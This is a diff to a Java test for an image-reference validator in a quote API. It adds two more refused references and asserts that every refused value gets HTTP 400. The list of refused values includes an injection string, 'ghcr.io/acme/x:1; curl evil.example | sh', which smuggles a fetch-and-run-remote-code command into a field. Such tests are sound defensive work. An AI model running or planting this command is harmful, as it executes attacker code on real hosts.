@@ -121,7 +121,8 @@ class ImagesTest {
     quote(renter, offerId, "registry.example:5000/team/img@sha256:" + "0".repeat(64), null);
 
     for (String refused : List.of("docker.io/evil/miner:latest", "ghcr.io/acmecorp/x:1", "ubuntu",
-        "ghcr.io/acme/x:1; curl evil.example | sh", "img_nosuchtemplate", "GHCR.IO/acme/UPPER")) {
+        "ghcr.io/acme/x:1; curl evil.example | sh", "img_nosuchtemplate", "GHCR.IO/acme/UPPER",
+        "ghcr.io/acme/trainer", "registry.example:5000/team/img")) {
       HttpResponse<String> answer = renter.post("/api/v1/quotes", quoteRequest(offerId).put("image", refused), null);
       assertEquals(400, answer.statusCode(), refused + ": " + answer.body());
       assertEquals("#/image", pointer(answer), refused);
